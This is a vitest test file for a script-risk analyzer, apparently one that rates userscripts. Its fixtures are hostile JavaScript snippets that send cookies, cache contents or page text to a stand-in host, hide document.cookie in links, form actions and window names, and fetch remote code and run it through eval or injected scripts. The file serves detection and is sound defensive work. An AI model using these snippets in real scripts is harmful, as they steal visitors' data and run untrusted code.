import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { traceOf } from "../testing/trace-of.ts";

const send = (what: string): string => `navigator.sendBeacon("https://c.test", ${what})`;

describe("data of the visitor", () => {
	test.each([
		[
			"cookie",
			`GM_cookie.list({}, (list) => GM_xmlhttpRequest({ method: "POST", url: "https://c.test", data: JSON.stringify(list) }));`,
		],
		[
			"storage",
			`caches.open("v1").then((kept) => kept.match("/me")).then((answer) => answer.text()).then((text) => ${send("text")});`,
		],
		["page", `${send("document.evaluate('//p', document, null, 2, null).stringValue")};`],
	])("%s, in another spelling", (kind, code) => {
		expect(traceOf(code).sinks.flatMap(({ carried }) => carried.map(({ origin }) => origin.kind))).toContain(kind);
	});
});

describe("secrets in what somebody follows", () => {
	test.each([
		[
			"the links of a page",
			`document.querySelectorAll("a").forEach((link) => { link.href = "https://c.test/?c=" + document.cookie; });`,
		],
		["the action of a form", `document.forms[0].action = "https://c.test/?c=" + document.cookie;`],
		["the name of a window", `window.open("https://c.test/", "n" + document.cookie);`],
	])("%s", (_title, code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});

	test("an address of the page in a link is no secret", () => {
		const code = `const link = document.createElement("a"); link.href = "https://c.test/share?u=" + encodeURIComponent(location.href); document.body.append(link);`;
		expect(analyzeScript({ code }).risk_level).toBe("green");
	});
});

describe("a stranger's code", () => {
	test.each([
		[
			"a file of it",
			`fetch("https://c.test/a").then((answer) => answer.blob()).then((file) => { const script = document.createElement("script"); script.src = URL.createObjectURL(file); document.head.append(script); });`,
		],
		[
			"an address that holds it",
			`fetch("https://c.test/a").then((answer) => answer.text()).then((text) => import("data:text/javascript," + encodeURIComponent(text)));`,
		],
		[
			"a message with a name of its own",
			`new EventSource("https://c.test").addEventListener("news", (event) => eval(event.data));`,
		],
		[
			"a header of an answer",
			`GM_xmlhttpRequest({ url: "https://c.test", onload({ responseHeaders }) { eval(/^x: (.*)/m.exec(responseHeaders)[1]); } });`,
		],
	])("%s is run", (_title, code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});

	test.each([
		[
			"a picture kept as a file",
			`fetch("https://c.test/a.png").then((answer) => answer.blob()).then((file) => { const image = new Image(); image.src = URL.createObjectURL(file); document.body.append(image); });`,
		],
		[
			"a message that is shown",
			`new EventSource("https://c.test").addEventListener("news", (event) => { document.title = event.data; });`,
		],
	])("%s is not", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).not.toBe("red");
	});
});
